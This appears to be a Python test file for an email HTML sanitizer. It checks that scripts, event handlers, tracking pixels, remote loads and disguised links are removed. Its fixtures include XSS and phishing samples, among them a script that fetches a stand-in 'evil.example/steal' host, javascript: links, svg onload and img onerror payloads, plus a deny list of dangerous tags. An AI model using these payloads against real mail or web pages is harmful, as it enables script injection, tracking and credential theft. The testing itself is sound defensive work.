"""Mail HTML is sanitized before display: no script, no handler, no remote load unless the
person allowed the sender, never a tracking pixel, and links keep their real target."""

from __future__ import annotations

from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from mailmoat.entrypoints.web.sanitize import html_parts, sanitize_html

HOSTILE = """
<html><head><style>body{background:url(https://track.example/css)}</style>
<script>fetch('https://evil.example/steal')</script><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="alert(1)"><p style="background:url(https://track.example/style)">Hello</p>
<img src="https://track.example/pixel.gif" width="1" height="1">
<img src="https://cdn.example/logo.png" alt="logo">
<img src="cid:part1" alt="inline"><img srcset="https://cdn.example/2x.png 2x">
<a href="https://evil.example/login">https://bank.example/login</a>
<a href="javascript:alert(1)">click</a><a href="data:text/html,<script>1</script>">d</a>
<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/"><input></form>
<svg><image href="https://evil.example/svg.png"/></svg><object data="https://evil.example/o"></object>
<video poster="https://evil.example/poster.png"></video><link rel="stylesheet" href="https://evil.example/x.css">
</body></html>
"""


def test_hostile_html_loses_everything_active_or_remote() -> None:
    safe = sanitize_html(HOSTILE)
    html = safe.html.lower()
    for banned in ("<script", "onload", "onerror", "<style", "style=", "<iframe", "<form",
                   "<input", "<svg", "<object", "<video", "<link", "<meta", "<base",
                   "javascript:", "data:text", "srcset", "track.example", "cdn.example"):
        assert banned not in html, banned
    assert "Hello" in safe.html
    assert safe.blocked_images == 3  # the pixel, the remote logo, the cid: image
    assert safe.links == ["https://evil.example/login"]  # javascript:/data: hrefs are gone
    assert 'href="https://evil.example/login"' in safe.html  # the real target stays visible
    assert 'rel="noopener noreferrer nofollow"' in safe.html


def test_allowed_sender_gets_remote_images_but_never_tracking_pixels() -> None:
    safe = sanitize_html(HOSTILE, allow_remote_images=True)
    assert 'src="https://cdn.example/logo.png"' in safe.html
    assert "pixel.gif" not in safe.html
    assert "<script" not in safe.html.lower()
    assert safe.blocked_images == 2  # the pixel and the cid: image


def test_small_data_images_stay_other_data_urls_go() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    safe = sanitize_html(f'<img src="{png}"><img src="data:image/svg+xml,<svg onload=1>">')
    assert png in safe.html and "svg" not in safe.html


def test_html_parts_come_from_the_mime_tree() -> None:
    raw = (b"From: a@example.org\nMIME-Version: 1.0\n"
           b'Content-Type: multipart/alternative; boundary="b"\n\n--b\n'
           b"Content-Type: text/plain\n\nplain\n--b\nContent-Type: text/html\n\n"
           b"<p>rich <b>text</b></p>\n--b--\n")
    assert [p.strip() for p in html_parts(raw)] == ["<p>rich <b>text</b></p>"]
    assert html_parts(b"From: a@example.org\n\njust text") == []
    assert html_parts(b"\xff\xfe garbage \x00") == []


class _Tags(HTMLParser):
    """The tags and attributes a browser would build from the sanitized output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([
    "<img src=https://t.example/a.gif>", "<IMG SRC=//t.example/b>", "<script>x</script>",
    "<a href=https://l.example>l</a>", "<p onclick=x>p</p>", "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>", "<style>@import 'https://t.example/c'</style>",
    "<iframe srcdoc='<script>1</script>'>", "<math><mi xlink:href=javascript:1>",
    "<!--<img src=https://t.example/c>-->", "<<script>script>", "text &amp; more",
    "<img src='https://t.example/d' width=1>", "<a href=' javascript:1'>j</a>", "<",
    "<img", " src=https://t.example/e>", "</p>", "<a href=\"", "\">",
]), max_size=12), st.text(max_size=30))
def test_no_composition_of_hostile_fragments_yields_script_or_remote_load(
        parts: list[str], noise: str) -> None:
    safe = sanitize_html(noise.join(parts))
    parsed = _Tags()
    parsed.feed(safe.html)
    for tag, attrs in parsed.tags:
        assert tag not in {"script", "style", "iframe", "svg", "math", "object", "base"}
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert not any(v.strip().lower().startswith("javascript:") for v in attrs.values())
        if tag == "img":
            src = attrs.get("src", "").strip().lower()
            assert not src.startswith(("http:", "https:", "//")), attrs
